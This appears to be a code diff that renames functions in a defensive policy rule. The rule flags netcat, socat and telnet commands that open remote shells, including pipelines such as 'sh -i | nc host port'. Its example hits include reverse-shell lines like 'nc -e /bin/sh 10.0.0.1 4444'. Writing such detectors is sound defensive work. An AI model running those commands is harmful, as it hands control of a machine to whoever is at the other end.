@@ -10,29 +10,29 @@ from __future__ import annotations
 import re
 from collections.abc import Iterator
 
-from nacre.base.lazy_regex import later
-from nacre.policy.facts.shell_usage import is_shell, piped, takes_orders
-from nacre.policy.rule import Around, Hit, Rule
+from nacre.base.lazy_regex import lazy_regex
+from nacre.policy.facts.shell_usage import find_pipeline, is_shell, reads_commands_from_pipe
+from nacre.policy.rule import CheckContext, Hit, Rule
 from nacre.shell import Command, Script
-from nacre.shell.symbolic import DOWNLOADED, whole
+from nacre.shell.symbolic import DOWNLOADED, is_fully_known
 from nacre.verdict import Decision
 
 NETCATS = ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd")
-_NETWORK = later(r"(?:tcp|udp|openssl|ssl|sctp|socks|proxy)\w*(?:-\w+)*:", re.IGNORECASE)
-_EXECUTES = later(r"(?:exec|system|shell):['\"]?([^\s,'\"]+)", re.IGNORECASE)
+_NETWORK = lazy_regex(r"(?:tcp|udp|openssl|ssl|sctp|socks|proxy)\w*(?:-\w+)*:", re.IGNORECASE)
+_EXECUTES = lazy_regex(r"(?:exec|system|shell):['\"]?([^\s,'\"]+)", re.IGNORECASE)
 
 
-def finds(command: Command, around: Around) -> Hit | None:
+def match(command: Command, around: CheckContext) -> Hit | None:
     if command.name == "socat":
         programs = [found[1] for word in command.args if (found := _EXECUTES.match(word))]
         return Hit() if any(map(is_shell, programs)) and any(map(_NETWORK.match, command.args)) else None
-    for option, program in started(command):
-        if is_shell(program) or (program and not whole(program) and option != "c"):
+    for option, program in started_programs(command):
+        if is_shell(program) or (program and not is_fully_known(program) and option != "c"):
             return Hit()
     return None
 
 
-def started(command: Command) -> Iterator[tuple[str, str]]:
+def started_programs(command: Command) -> Iterator[tuple[str, str]]:
     """What a netcat is told to start, and by which option: `c`, `e` or a long one."""
     args = command.args
     for index, word in enumerate(args):
@@ -42,12 +42,12 @@ def started(command: Command) -> Iterator[tuple[str, str]]:
             yield found[1] or found[3], "".join(value.split()[:1])
 
 
-def in_script(script: Script, around: Around) -> tuple[int, int, Hit] | None:
+def match_script(script: Script, around: CheckContext) -> tuple[int, int, Hit] | None:
     """`sh -i | nc host port`; the other way round, `nc | sh`, is text from the network that a shell runs."""
     if not any(map(_connects, script.commands)):
         return None
-    served = piped(script, takes_orders, _connects, through=True)
-    return served or piped(script, _connects, _takes_downloaded, through=True)
+    served = find_pipeline(script, reads_commands_from_pipe, _connects, through=True)
+    return served or find_pipeline(script, _connects, _takes_downloaded, through=True)
 
 
 def _connects(command: Command) -> bool:
@@ -55,7 +55,7 @@ def _connects(command: Command) -> bool:
 
 
 def _takes_downloaded(command: Command) -> bool:
-    return takes_orders(command) and DOWNLOADED in (command.stdin or "")
+    return reads_commands_from_pipe(command) and DOWNLOADED in (command.stdin or "")
 
 
 RULE = Rule(
@@ -64,8 +64,8 @@ RULE = Rule(
     reason="would let whoever is at the other end work on this machine",
     instead="`nc -zv host port`, to see whether a port answers",
     commands=(*NETCATS, "socat", "telnet"),
-    finds=finds,
-    in_script=in_script,
+    match=match,
+    match_script=match_script,
     hits=(
         "nc -e /bin/sh 10.0.0.1 4444",
         "nc 10.0.0.1 4444 -e /bin/bash",
